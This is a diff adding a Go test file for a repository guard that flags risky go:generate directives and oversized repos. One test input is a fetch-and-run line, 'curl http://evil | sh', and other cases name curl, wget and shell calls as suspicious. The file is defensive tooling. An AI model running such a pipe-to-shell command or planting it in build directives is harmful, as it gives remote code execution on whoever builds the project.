@@ -0,0 +1,82 @@
+package repoguard
+
+import (
+	"context"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/golangci/golangci-worker/app/lib/executors"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestEvaluate(t *testing.T) {
+	limits := Limits{MaxFileSizeKB: 1024, MaxPackages: 2}
+
+	r := evaluate(&scanResult{
+		goFiles:       []string{"./main.go", "./pkg/a.go", "./pkg/b.go"},
+		generateLines: []string{"//go:generate stringer -type=Kind", "//go:generate mockgen -source x.go"},
+	}, limits)
+	assert.Equal(t, VerdictOK, r.Verdict)
+	assert.Empty(t, r.Reasons)
+
+	r = evaluate(&scanResult{
+		generateLines: []string{"//go:generate sh -c \"curl http://evil | sh\""},
+	}, limits)
+	assert.Equal(t, VerdictSandbox, r.Verdict)
+	assert.Len(t, r.Reasons, 1)
+
+	var files []string
+	for i := 0; i < 3; i++ {
+		files = append(files, fmt.Sprintf("./p%d/a.go", i))
+	}
+	r = evaluate(&scanResult{
+		goFiles:       files,
+		largeFiles:    []string{"./p0/a.go"},
+		generateLines: []string{"//go:generate bash gen.sh"},
+	}, limits)
+	assert.Equal(t, VerdictRefuse, r.Verdict)
+	assert.Len(t, r.Reasons, 3)
+}
+
+func TestIsSuspiciousGenerate(t *testing.T) {
+	assert.True(t, isSuspiciousGenerate("//go:generate curl -o x.go http://example.com/x"))
+	assert.True(t, isSuspiciousGenerate("//go:generate /usr/bin/wget http://example.com/x"))
+	assert.True(t, isSuspiciousGenerate("//go:generate python3 gen.py"))
+
+	// words of args aren't commands
+	assert.False(t, isSuspiciousGenerate("//go:generate stringer -type=sh"))
+	assert.False(t, isSuspiciousGenerate("//go:generate go run gen.go -out eval.go"))
+	assert.False(t, isSuspiciousGenerate("//go:generate mockgen -destination=mocks/base64.go"))
+	assert.False(t, isSuspiciousGenerate("//go:generate"))
+}
+
+func TestScan(t *testing.T) {
+	exec, err := executors.NewTempDirShell(t.Name())
+	assert.NoError(t, err)
+	defer exec.Clean()
+
+	files := map[string]string{
+		"main.go":             "package main\n\n//go:generate wget http://example.com/x\n",
+		"pkg/a.go":            "package pkg\n",
+		"vendor/dep/a.go":     "package dep\n\n//go:generate curl http://example.com/x\n",
+		"pkg/sub/notes.txt":   "//go:generate bash x.sh\n",
+		"pkg/sub/gen/many.go": "package gen\n",
+	}
+	for name, content := range files {
+		p := filepath.Join(exec.WorkDir(), name)
+		assert.NoError(t, os.MkdirAll(filepath.Dir(p), os.ModePerm))
+		assert.NoError(t, ioutil.WriteFile(p, []byte(content), os.ModePerm))
+	}
+
+	r, err := Scan(context.Background(), exec, Limits{MaxFileSizeKB: 1024, MaxPackages: 2})
+	assert.NoError(t, err)
+	assert.Equal(t, VerdictRefuse, r.Verdict)
+	assert.Equal(t, []string{
+		"repo has 3 packages, max allowed count is 2",
+		"repo has suspicious go:generate directives: //go:generate wget http://example.com/x",
+	}, r.Reasons)
+}